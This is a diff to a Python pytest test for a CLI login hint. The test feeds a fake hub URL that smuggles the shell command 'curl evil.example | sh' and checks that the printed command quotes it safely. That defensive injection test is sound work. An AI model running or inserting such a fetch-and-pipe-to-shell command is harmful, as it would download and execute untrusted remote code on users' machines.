@@ -52,7 +52,7 @@ def test_a_login_to_be_pasted_is_one_word_of_the_hubs(capsys: pytest.CaptureFixt
         def get(self, *path: str, **query: str) -> Object:
             return {"public_url": "https://hub.example; curl evil.example | sh"}
 
-    _say_login(Taken("", "", ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)), " --code")
+    _say_login(Taken("", "", ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)), " --code", "the code")
     assert (
         "hawse login --hub 'https://hub.example; curl evil.example | sh' --code\n" in capsys.readouterr().err
     )
